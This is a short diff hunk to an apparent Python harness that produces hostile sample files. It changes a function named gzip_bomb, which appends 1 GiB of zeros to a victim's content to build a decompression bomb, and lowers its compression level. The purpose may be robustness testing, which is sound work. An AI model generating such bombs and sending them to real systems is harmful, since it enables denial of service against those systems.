@@ -103,8 +103,8 @@ def gzip_header_drawn(v: Victim) -> str:
 
 
 def gzip_bomb(v: Victim) -> str:
-    """The volume, and 2 GiB of zeros after it: 2 MiB packed."""
-    packer = zlib.compressobj(9, wbits=31)
+    """The volume, and 1 GiB of zeros after it: a few MiB packed."""
+    packer = zlib.compressobj(1, wbits=31)
     packed = packer.compress(bytes(v.content()))
     chunk = bytes(1 << 24)
     for _ in range(64):
